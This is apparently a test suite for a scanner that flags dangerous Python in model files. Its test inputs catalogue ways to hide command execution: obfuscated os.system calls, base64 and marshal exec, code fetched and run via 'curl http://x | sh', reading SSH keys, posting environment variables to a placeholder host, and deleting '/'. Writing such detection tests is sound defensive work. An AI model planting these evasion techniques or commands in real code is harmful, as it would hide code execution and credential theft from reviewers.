import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Severity } from '#contract/findings';
import { utf8 } from '#formats/test-files/bytes';
import { scanBytes } from '../test-scan.ts';

const scan = (text: string) => scanBytes(utf8(text), 'modeling.py');

/** The observation of a rule at a severity, or a list of what there was instead. */
function found(text: string, rule: string): Severity | string {
  const result = scan(text);
  const each = result.observations.filter(({ ruleId }) => ruleId === rule);
  return each[0]?.severity ?? result.observations.map(({ ruleId, severity }) => `${ruleId} ${severity}`).join(', ');
}

const payload = Buffer.from('import os; os.system("id")').toString('base64');

const onImport: readonly (readonly [string, string, string])[] = [
  ['a plain call', 'import os\nos.system("id")', 'MDL-PY-002'],
  ['an alias of the module', 'import os as o\no.system("id")', 'MDL-PY-002'],
  ['an alias of the function', 'from os import system as s\ns("id")', 'MDL-PY-002'],
  ['an assignment', 'import os\nf = os.system\nf("id")', 'MDL-PY-002'],
  ['an assignment on either branch', 'import os\nif x:\n  f = os.system\nelse:\n  f = print\nf("id")', 'MDL-PY-002'],
  ['getattr with a name in pieces', 'import os\ngetattr(os, "sys" + "tem")("id")', 'MDL-PY-002'],
  ['getattr with a name turned round', 'import os\ngetattr(os, "metsys"[::-1])("id")', 'MDL-PY-002'],
  ['getattr with a name of numbers', 'import os\ngetattr(os, "".join(map(chr, [115,121,115,116,101,109])))("id")', 'MDL-PY-002'],
  ['getattr with a name by a comprehension', 'import os\ngetattr(os, "".join([chr(ord(c) ^ 1) for c in "rxrudl"]))("id")', 'MDL-PY-002'],
  ['getattr with a name by format', 'import os\ngetattr(os, "{}{}".format("sys", "tem"))("id")', 'MDL-PY-002'],
  ['getattr with a name by percent', 'import os\ngetattr(os, "%s%s" % ("sys", "tem"))("id")', 'MDL-PY-002'],
  ['getattr with a name in an f-string', 'import os\na = "tem"\ngetattr(os, f"sys{a}")("id")', 'MDL-PY-002'],
  ['__import__', '__import__("os").system("id")', 'MDL-PY-002'],
  ['__import__ from builtins', 'import builtins\ngetattr(builtins, "__imp" + "ort__")("os").system("id")', 'MDL-PY-002'],
  ['import_module', 'import importlib\nimportlib.import_module("o" + "s").popen("id")', 'MDL-PY-002'],
  ['sys.modules', 'import sys\nsys.modules["os"].system("id")', 'MDL-PY-002'],
  ['a dictionary of the module', 'import os\nos.__dict__["system"]("id")', 'MDL-PY-002'],
  ['vars', 'import os\nvars(os)["system"]("id")', 'MDL-PY-002'],
  ['globals', 'import os\nglobals()["os"].system("id")', 'MDL-PY-002'],
  ['posix', 'import posix\nposix.system("id")', 'MDL-PY-002'],
  ['a star import', 'from os import *\nsystem("id")', 'MDL-PY-002'],
  ['attrgetter', 'import os, operator\noperator.attrgetter("system")(os)("id")', 'MDL-PY-002'],
  ['methodcaller', 'import os, operator\noperator.methodcaller("system", "id")(os)', 'MDL-PY-002'],
  ['partial', 'import os, functools\nfunctools.partial(os.system, "id")()', 'MDL-PY-002'],
  ['map', 'import os\nlist(map(os.system, ["id"]))', 'MDL-PY-002'],
  ['a lambda', 'import os\n(lambda c: os.system(c))("id")', 'MDL-PY-002'],
  ['a function that is called', 'import os\ndef f(c):\n  os.system(c)\nf("id")', 'MDL-PY-002'],
  ['a function that calls another', 'import os\ndef g(): os.system("id")\ndef f(): g()\nf()', 'MDL-PY-002'],
  ['a class body', 'import os\nclass M:\n  x = os.system("id")', 'MDL-PY-002'],
  ['a constructor', 'import os\nclass M:\n  def __init__(self):\n    os.system("id")\nM()', 'MDL-PY-002'],
  ['a default argument', 'import os\ndef f(x=os.system("id")): pass', 'MDL-PY-002'],
  ['a decorator', 'import os\n@os.system\ndef f(): pass', 'MDL-PY-002'],
  ['an annotation', 'import os\ndef f(x: os.system("id")): pass', 'MDL-PY-002'],
  ['a subclass hook', 'import os\nclass A:\n  def __init_subclass__(cls):\n    os.system("id")\nclass B(A): pass', 'MDL-PY-002'],
  ['a thread', 'import os, threading\ndef f(): os.system("id")\nthreading.Thread(target=f).start()', 'MDL-PY-002'],
  ['atexit', 'import os, atexit\n@atexit.register\ndef f(): os.system("id")', 'MDL-PY-002'],
  ['a comprehension', 'import os\n[os.system(c) for c in ["id"]]', 'MDL-PY-002'],
  ['a walrus', 'import os\n(s := os.system)("id")', 'MDL-PY-002'],
  ['a match', 'import os\nmatch os.system:\n  case f:\n    f("id")', 'MDL-PY-002'],
  ['a with statement', 'import os\nclass C:\n  def __enter__(self): os.system("id")\nwith C(): pass', 'MDL-PY-002'],
  ['an eval of a name', 'eval("__import__(\'os\').system")("id")', 'MDL-PY-002'],
  ['exec in plain sight', 'exec("import os\\nos.system(\'id\')")', 'MDL-PY-002'],
  ['exec of Python 2', 'import os\nexec "os.system(1)"', 'MDL-PY-002'],
  ['letters of another width', 'import os\nos.ｓｙｓｔｅｍ("id")', 'MDL-PY-002'],
  ['a subprocess with a shell', 'import subprocess\nsubprocess.run("id", shell=True)', 'MDL-PY-002'],
  ['a subprocess that is a shell', 'import subprocess\nsubprocess.Popen(["/bin/sh", "-c", "id"])', 'MDL-PY-002'],
  ['base64', `import base64\nexec(base64.b64decode("${payload}"))`, 'MDL-PY-001'],
  ['base64 in variables', `import base64 as b\nx = "${payload}"\ny = b.b64decode(x).decode()\nexec(compile(y, "", "exec"))`, 'MDL-PY-001'],
  ['an unknown text that is decoded', 'import base64\nexec(base64.b64decode(open("x").read()))', 'MDL-PY-001'],
  ['hexadecimal', `exec(bytes.fromhex("${Buffer.from('print(1)').toString('hex')}"))`, 'MDL-PY-001'],
  ['rot13', 'import codecs\nexec(codecs.decode("vzcbeg bf", "rot13"))', 'MDL-PY-001'],
  ['a download', 'import requests\nexec(requests.get("http://x").text)', 'MDL-PY-001'],
  ['marshal', 'import marshal, base64\nexec(marshal.loads(base64.b64decode(b"4wAAAA")))', 'MDL-PY-001'],
  ['a decoder of its own', 'import base64\ndef d(s): return base64.b64decode(s)\nexec(d("cHJpbnQ="))', 'MDL-PY-001'],
  ['the shell profile', 'open("/root/.bashrc", "a").write("x")', 'MDL-PY-013'],
];

const highOnImport: readonly (readonly [string, string, string])[] = [
  ['a process', 'import subprocess\nsubprocess.run(["make"])', 'MDL-PY-003'],
  ['exec of something unknown', 'exec(x)', 'MDL-PY-004'],
  ['a dangerous function in a class', 'import os\nclass A:\n  __class_getitem__ = os.system', 'MDL-PY-004'],
  ['a request', 'import requests\nrequests.get("http://x")', 'MDL-PY-005'],
  ['a socket', 'import socket\ns = socket.socket()\ns.connect(("1.2.3.4", 1))', 'MDL-PY-005'],
  ['a written file', 'open("/tmp/x", "w")', 'MDL-PY-006'],
  ['deleted files', 'import shutil\nshutil.rmtree("/")', 'MDL-PY-006'],
  ['a pickle', 'import pickle\npickle.load(open("x", "rb"))', 'MDL-PY-007'],
  ['a library', 'import ctypes\nctypes.CDLL("./x.so")', 'MDL-PY-008'],
  ['keys', 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()', 'MDL-PY-009'],
  ['the environment sent away', 'import os, requests\nrequests.post("http://x", json=dict(os.environ))', 'MDL-PY-009'],
  ['a walk to the subclasses', 'x = ().__class__.__bases__[0].__subclasses__()', 'MDL-PY-016'],
  ['a made-up attribute', 'import os\ngetattr(os, x)("id")', 'MDL-PY-016'],
  ['a turned direction of writing', 'import os\n# \u202e', 'MDL-PY-014'],
];

describe('importing', () => {
  test.each(onImport)('%s is critical', (_name, text, rule) => {
    expect(found(text, rule)).toBe('critical');
  });

  test.each(highOnImport)('%s is high', (_name, text, rule) => {
    expect(found(text, rule)).toBe('high');
  });

  test('code in a disguising encoding is read as Python reads it', () => {
    const hidden = '# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os\nos.system("id")\n';
    expect(scan(hidden).rules).toEqual(expect.arrayContaining(['MDL-PY-002', 'MDL-PY-014']));
    const escaped = '# coding: unicode_escape\n# \\nimport os\\nos.system("id")\n';
    expect(scan(escaped).rules).toEqual(expect.arrayContaining(['MDL-PY-002', 'MDL-PY-014']));
  });

  test('a pickle that stands in the text is read as one', () => {
    const result = scan('import pickle\npickle.loads(b"cposix\\nsystem\\n(S\'id\'\\ntR.")');
    expect(result.rules).toContain('MDL-PKL-001');
  });
});

describe('what only later happens', () => {
  test.each([
    ['a constructor', 'import os\nclass M:\n  def __init__(self):\n    os.system("id")', 'MDL-PY-010', 'high'],
    ['a forward method', 'import subprocess\nclass M:\n  def forward(self, x):\n    subprocess.run(["x"])', 'MDL-PY-010', 'high'],
    ['a handler', 'import os\ndef handle(data, context):\n  os.system(data)', 'MDL-PY-010', 'high'],
    ['a function', 'import os\ndef helper():\n  os.system("id")', 'MDL-PY-011', 'medium'],
    ['a main block', 'import os\nif __name__ == "__main__":\n  os.system("id")', 'MDL-PY-011', 'medium'],
    [
      'decoded code in a constructor',
      `import base64\nclass M:\n  def __init__(self):\n    exec(base64.b64decode("${payload}"))`,
      'MDL-PY-001',
      'critical',
    ],
    ['decoded code in a function', `import base64\ndef f():\n  exec(base64.b64decode("${payload}"))`, 'MDL-PY-001', 'high'],
    ['data sent by a function', 'import requests\ndef f(x):\n  requests.post("http://x", data=x)', 'MDL-PY-012', 'medium'],
    ['a download by a function', 'import requests\ndef f(x):\n  return requests.get(x)', 'MDL-PY-012', 'low'],
    ['deletion by a function', 'import os\ndef f(x):\n  os.remove(x)', 'MDL-PY-017', 'low'],
    ['code for type checkers', 'from typing import TYPE_CHECKING\nimport os\nif TYPE_CHECKING:\n  os.system("id")', 'MDL-PY-011', 'medium'],
  ])('%s has its level', (_name, text, rule, severity) => {
    expect(found(text, rule)).toBe(severity);
  });
});

const key = 'sk-ant-api03-Zq8vN4kW2mT7xJ1pL9rB';

describe('the development stage', () => {
  test.each([
    ['an AI package', 'import openai', 'MDL-DEV-001', 'info'],
    ['an open download', 'from transformers import AutoModel\nAutoModel.from_pretrained("org/model")', 'MDL-DEV-002', 'low'],
    [
      'trusted code',
      'from transformers import AutoModel\nAutoModel.from_pretrained("org/model", trust_remote_code=True)',
      'MDL-DEV-003',
      'high',
    ],
    [
      'trusted code of a commit',
      `from transformers import AutoModel\nAutoModel.from_pretrained("o/m", trust_remote_code=True, revision="${'a1'.repeat(20)}")`,
      'MDL-DEV-003',
      'medium',
    ],
    ['a pickle in a function', 'import joblib\ndef f(p):\n  return joblib.load(p)', 'MDL-DEV-004', 'medium'],
    ['torch.load', 'import torch\ndef f(p):\n  return torch.load(p)', 'MDL-DEV-005', 'medium'],
    ['YAML', 'import yaml\nyaml.load(x, Loader=yaml.Loader)', 'MDL-DEV-006', 'medium'],
    ['arrays with objects', 'import numpy as np\nnp.load(x, allow_pickle=True)', 'MDL-DEV-007', 'medium'],
    ['Keras without protection', 'import keras\nkeras.models.load_model(x, safe_mode=False)', 'MDL-DEV-007', 'high'],
    ['a named model', 'from openai import OpenAI\nOpenAI().chat.completions.create(model="gpt-4o", messages=[])', 'MDL-DEV-008', 'info'],
    ['a prompt', 'SYSTEM_PROMPT = "You are a helpful clerk of the bank."', 'MDL-DEV-009', 'info'],
    [
      'a user in the instructions',
      'def f(user_input):\n  c.create(messages=[{"role": "system", "content": f"You are helpful. {user_input}"}])',
      'MDL-DEV-010',
      'medium',
    ],
    ['torch.hub', 'import torch\ntorch.hub.load("org/repo", "model")', 'MDL-DEV-011', 'medium'],
    ['a key', `import anthropic\nclient = anthropic.Anthropic(api_key="${key}")`, 'MDL-DEV-012', 'high'],
  ])('%s is told', (_name, text, rule, severity) => {
    expect(found(text, rule)).toBe(severity);
  });

  test('a key is never shown', () => {
    const result = scan(`import anthropic\napi_key = "${key}"`);
    expect(result.rules).toContain('MDL-DEV-012');
    expect(JSON.stringify(result.observations)).not.toContain(key.slice(5, 20));
    expect(JSON.stringify(result.observations)).not.toContain(Buffer.from(key).toString('hex'));
  });

  test.each([
    'import torch\ntorch.load(x, weights_only=True)',
    'import yaml\nyaml.load(x, Loader=yaml.SafeLoader)',
    'import yaml\nyaml.safe_load(x)',
    'from transformers import AutoModel\nAutoModel.from_pretrained("./local")',
    'api_key = os.environ["API_KEY"]',
    'api_key = "your-api-key-goes-here-1234"',
    'import subprocess\nsubprocess.check_output(["git", "rev-parse", "HEAD"])',
    'import re\nre.compile("x")\nclass A:\n  def eval(self): pass\nA().eval()',
    'model.eval()',
  ])('%s raises nothing', (text) => {
    expect(['clean', 'info', 'low']).toContain(scan(text).verdict);
  });
});

test('a finding leads to its line, its bytes and the call', () => {
  const text = '# ä€😀\nimport os\n\nos.system("curl http://x | sh")\n';
  const [each] = scan(text).observations.filter(({ ruleId }) => ruleId === 'MDL-PY-002');
  expect(each?.location.row).toBe(4);
  const bytes = Buffer.from(text).subarray(each?.location.offset, (each?.location.offset ?? 0) + (each?.location.length ?? 0));
  expect(bytes.toString()).toBe('os.system("curl http://x | sh")');
  expect(each?.evidence?.reconstruction).toBe('os.system("curl http://x | sh")');
});

test('a file that Python would refuse is said to be so, and the rest is read', () => {
  const result = scan('import os\nfoo bar baz\nos.system("id")\n');
  expect(result.rules).toEqual(expect.arrayContaining(['MDL-PY-002', 'MDL-PY-015']));
});

const libraries = '/usr/lib/python3/dist-packages';
const modelling = ['torch/nn/modules', 'torch/optim', 'sklearn/linear_model', 'sklearn/ensemble', 'sklearn/neural_network'].map((name) =>
  join(libraries, name),
);

describe.skipIf(!modelling.every((folder) => existsSync(folder)))('code of torch and scikit-learn on this machine', () => {
  test('raises no alarm', () => {
    const alarms: string[] = [];
    let medium = 0;
    let files = 0;
    for (const folder of modelling)
      for (const name of readdirSync(folder).filter((each) => each.endsWith('.py'))) {
        const { verdict } = scanBytes(readFileSync(join(folder, name)), name);
        files += 1;
        if (verdict === 'high' || verdict === 'critical') alarms.push(name);
        if (verdict === 'medium') medium += 1;
      }
    expect(files).toBeGreaterThan(50);
    expect(alarms).toEqual([]);
    expect(medium).toBeLessThanOrEqual(files * 0.02);
  });
});

test('kinds of text are told apart: what is no program is not taken for one', () => {
  const kind = (text: string, name = 'x') => scanBytes(utf8(text), name).format.kind;
  expect(kind('\n', 'x.py')).toBe('python');
  expect(kind('# only a remark\n', 'x.py')).toBe('python');
  expect(kind('__import__("os").system("id")')).toBe('python');
  expect(kind('from a import b, c\nfrom d import e, f\nfrom g import h, i\n')).toBe('python');
  expect(kind('import duties rose in the class of 1990\n')).toBe('text');
  expect(kind('a,b,c\n1,2,3\n4,5,6\n')).toBe('csv');
  expect(kind('a: 1\nb: 2\n')).toBe('yaml');
  expect(kind('{"import": "os"}')).toBe('json');
  expect(kind("import x from 'y';\nexport const a = 1;\n")).toBe('text');
  expect(kind('{% for m in messages %}{{ m }}{% endfor %}')).toBe('chat-template');
  expect(kind('torch==2.6.0\nnumpy==1.26\n')).toBe('requirements');
});
